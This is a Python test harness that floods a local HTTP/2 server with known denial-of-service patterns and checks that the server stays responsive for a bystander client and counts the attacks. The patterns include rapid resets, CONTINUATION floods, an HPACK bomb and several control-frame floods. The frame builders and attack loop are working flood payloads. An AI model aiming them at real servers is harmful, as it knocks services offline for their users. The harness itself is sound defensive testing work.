"""HTTP/2 attacks beside a client that behaves."""
import json
import os
import socket
import statistics
import struct
import subprocess
import sys
import time

from world import Failure, World, expect, tls_context

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, _, PING, _, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS = 1, 4
REQUEST = b"\x82\x87\x84\x41\x09localhost"  # GET https / localhost, HPACK
POSTING = b"\x83\x87\x84\x41\x09localhost"
STATISTICS = 200  # samples at least for a 99th percentile


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0)


def each_stream(make):
    return lambda: (b"".join(make(stream) for stream in range(first, first + 200, 2)) for first in range(1, 1 << 30, 200))


def endlessly(start, piece, times=200):
    def attack():
        yield start
        while True:
            yield piece * times
    return attack


def zero_window():
    """Answers are asked for and no window is given for them."""
    yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)) + b"".join(
        frame(HEADERS, END_STREAM | END_HEADERS, stream, REQUEST) for stream in range(1, 200, 2))
    while True:
        time.sleep(0.1)
        yield frame(PING, 1, 0, bytes(8))  # an answer that was not asked for keeps nothing alive


# One entry of 4,000 bytes in the table, then named over and over.
BOMB = REQUEST + b"\x40\x01x\x7f\xa1\x1e" + b"y" * 4000 + b"\xbe" * 12000

# Name: what is sent, and under which ends it may be counted.
ATTACKS = {
    "rapid resets": (each_stream(lambda stream: frame(HEADERS, END_STREAM | END_HEADERS, stream, REQUEST) +
                                 frame(RST_STREAM, 0, stream, struct.pack(">I", 8))), {"rapid_reset"}),
    "resets that we are made to send": (each_stream(lambda stream: frame(HEADERS, END_HEADERS, stream, POSTING) +
                                                    frame(WINDOW_UPDATE, 0, stream, b"\x7f\xff\xff\xff")), {"provoked_reset"}),
    "CONTINUATION": (endlessly(frame(HEADERS, 0, 1, REQUEST), frame(CONTINUATION, 0, 1, b"\x40\x01a\x01b")),
                     {"continuation_flood", "field_flood"}),
    "HPACK bomb": (each_stream(lambda stream: frame(HEADERS, END_STREAM | END_HEADERS, stream, BOMB)),
                   {"field_flood", "compression", "glitches"}),
    "SETTINGS": (endlessly(b"", frame(SETTINGS, 0, 0)), {"settings_flood", "control_queue"}),
    "PING": (endlessly(b"", frame(PING, 0, 0, bytes(8))), {"ping_flood", "control_queue"}),
    "empty DATA": (endlessly(frame(HEADERS, END_HEADERS, 1, POSTING), frame(DATA, 0, 1)), {"empty_frames"}),
    "PRIORITY": (endlessly(b"", frame(PRIORITY, 0, 1, bytes(4) + b"\x10")), {"priority_flood"}),
    "WINDOW_UPDATE": (endlessly(b"", frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\x01")), {"window_flood"}),
    "unknown frames": (endlessly(b"", frame(0xfe, 0, 0, b"?")), {"unknown_frames"}),
    "zero window": (zero_window, set()),
}


def run(options):
    wanted = {options.attack: ATTACKS[options.attack]} if options.attack else ATTACKS
    with World(options.binary) as world:
        before = Bystander(world.port).watch(3)
        for name, (_, ends) in wanted.items():
            print(f"{name}: {options.secs:.0f} s")
            under = flood(world, name, ends, options.secs)
            after = Bystander(world.port).watch(3)
            # A shared machine is not always equally quiet, and below a millisecond its scheduler has more to say than we.
            expect(under <= max(2 * before, 2 * after, 0.001), f"the bystander's p99: {before * 1e6:.0f} µs before, "
                   f"{under * 1e6:.0f} µs meanwhile, {after * 1e6:.0f} µs after")
            world.still_runs()
            before = after


def flood(world, name, ends, seconds):
    before, memory = world.metrics(), world.memory_kib()
    # Least of all for the machine: it is the edge that has to hold it back.
    attacker = subprocess.Popen(["nice", "-n", "19", sys.executable, os.path.abspath(__file__), name, str(world.port),
                                 str(seconds)], stdout=subprocess.PIPE, text=True)
    under = Bystander(world.port).watch(seconds)
    grown = world.memory_kib() - memory
    result = json.loads(attacker.communicate(timeout=60)[0])
    after = world.metrics()
    counted = {row.split('"')[1]: count - before.get(row, 0) for row, count in after.items()
               if row.startswith("gatebook_http2_ends_total") and count > before.get(row, 0)}
    told = ", ".join(f"{reason} {count:.0f}" for reason, count in counted.items()) or "nothing"
    print(f"  {result['connections']} connections, {result['bytes'] / 1e6:.1f} MB, ended: {told}")
    if ends:
        expect(result["closed"] >= 1, f"the attacker was closed {result['closed']} times")
        expect(not ends.isdisjoint(counted), f"counted as {' or '.join(sorted(ends))}")
    expect(grown < 32 * 1024, f"memory grew by {grown} KiB")
    return under


class Bystander:
    def __init__(self, port):
        self.link = tls_context().wrap_socket(socket.create_connection(("127.0.0.1", port), 10))

    def watch(self, seconds):
        """The 99th percentile of its requests' times, one each 3 ms, in seconds."""
        times, end = [], time.monotonic() + seconds
        while time.monotonic() < end:
            began = time.monotonic()
            self.link.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n")
            got = b""
            while len(got.partition(b"\r\n\r\n")[2]) < 1024:
                piece = self.link.recv(8192)
                if not piece:
                    raise Failure("the bystander was cut off")
                got += piece
            if not got.startswith(b"HTTP/1.1 200"):
                raise Failure(f"the bystander was answered {got[:40]}")
            times.append(time.monotonic() - began)
            time.sleep(0.003)
        self.link.close()
        if len(times) < STATISTICS:
            raise Failure(f"the bystander had only {len(times)} answers")
        return statistics.quantiles(times, n=100)[98]


def attack(name, port, seconds):
    connections = closed = sent = 0
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        connections += 1
        try:
            link = tls_context("h2").wrap_socket(socket.create_connection(("127.0.0.1", port), 5))
            link.sendall(PREFACE)
            link.settimeout(max(0.1, end - time.monotonic()))
            for piece in ATTACKS[name][0]():
                if time.monotonic() > end:
                    break
                link.sendall(piece)
                sent += len(piece)
            link.close()
        except TimeoutError:
            break  # it neither reads nor closes: back-pressure
        except OSError:
            closed += 1
    print(json.dumps({"connections": connections, "closed": closed, "bytes": sent}))


if __name__ == "__main__":
    attack(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]))
